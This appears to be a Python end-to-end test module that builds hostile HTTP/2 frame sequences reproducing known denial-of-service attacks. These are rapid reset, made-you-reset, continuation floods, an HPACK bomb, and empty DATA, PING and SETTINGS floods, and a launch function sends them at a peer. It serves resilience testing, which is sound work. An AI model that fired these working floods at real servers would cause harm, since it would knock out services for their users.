"""What a hostile HTTP/2 peer sends, where it is the one that asks."""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from tests.e2e.stack.http2 import Http2

_HEAD = [(":method", "GET"), (":scheme", "http"), (":authority", "localhost"), (":path", "/hello")]
_POST = [(":method", "POST"), *_HEAD[1:3], (":path", "/hash")]
_SECONDS = 15.0
_CANCEL = 8


def rapid_reset() -> Iterator[Frame]:
    """CVE-2023-44487: streams that are cancelled as soon as they are opened."""
    block = Encoder().encode(_HEAD)
    for stream in range(1, 20_001, 2):
        yield HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"])
        yield RstStreamFrame(stream, _CANCEL)


def made_you_reset() -> Iterator[Frame]:
    """CVE-2025-8671: streams that the server itself must reset, for a window update of nothing."""
    block = Encoder().encode(_POST)
    for stream in range(1, 20_001, 2):
        yield HeadersFrame(stream, block, flags=["END_HEADERS"])
        yield _Raw(WindowUpdateFrame(stream, 1).serialize()[:-4] + bytes(4))


def continuation_flood() -> Iterator[Frame]:
    """RUSTSEC-2024-0332: a header block without an end."""
    yield HeadersFrame(1, Encoder().encode(_HEAD))
    part = Encoder().encode([("x-more", "x" * 15_000)], huffman=False)
    for _ in range(20_000):
        yield ContinuationFrame(1, part)


def empty_continuations() -> Iterator[Frame]:
    """The same, but nothing in it."""
    yield HeadersFrame(1, Encoder().encode(_HEAD))
    for _ in range(100_000):
        yield ContinuationFrame(1, b"")


def hpack_bomb() -> Iterator[Frame]:
    """CVE-2016-6581: one large field and many one-byte references to it."""
    encoder = Encoder()
    block = encoder.encode([*_HEAD, ("x-bomb", "x" * 4000)], huffman=False)
    again = encoder.encode([("x-bomb", "x" * 4000)])
    assert len(again) == 1
    for stream in range(1, 201, 2):
        head = block if stream == 1 else encoder.encode(_HEAD)
        yield HeadersFrame(stream, head + again * 12_000, flags=["END_HEADERS", "END_STREAM"])


def empty_data() -> Iterator[Frame]:
    """RUSTSEC-2026-0258: a body of nothing, without an end."""
    yield HeadersFrame(1, Encoder().encode(_POST), flags=["END_HEADERS"])
    for _ in range(100_000):
        yield DataFrame(1, b"")


def pings() -> Iterator[Frame]:
    """CVE-2019-9512: more answers than are ever read."""
    for number in range(200_000):
        yield PingFrame(0, number.to_bytes(8, "big"))


def settings() -> Iterator[Frame]:
    """CVE-2019-9515: the same with SETTINGS."""
    for _ in range(200_000):
        yield SettingsFrame(0, {})


ATTACKS: dict[str, Callable[[], Iterator[Frame]]] = {
    "rapid reset": rapid_reset,
    "made you reset": made_you_reset,
    "continuation flood": continuation_flood,
    "empty continuations": empty_continuations,
    "HPACK bomb": hpack_bomb,
    "empty data": empty_data,
    "pings": pings,
    "settings": settings,
}


def launch(attack: Callable[[], Iterator[Frame]], attacker: Http2) -> int:
    """Sends it all, reading nothing, until the peer ends the connection or reads no more; says how much."""
    sent = 0
    deadline = time.monotonic() + _SECONDS
    attacker.transport.settimeout(1)
    batch = b""
    for frame in attack():
        batch += frame.serialize()
        if len(batch) < 65536:
            continue
        try:
            attacker.transport.sendall(batch)
        except OSError:
            # Ended, or a peer that waits for us to read.
            return sent
        sent += len(batch)
        batch = b""
        if time.monotonic() > deadline:
            return sent
    return sent


class _Raw(Frame):
    """A frame that the library would not make."""

    def __init__(self, data: bytes) -> None:
        super().__init__(1)
        self._data = data

    def serialize(self) -> bytes:
        return self._data
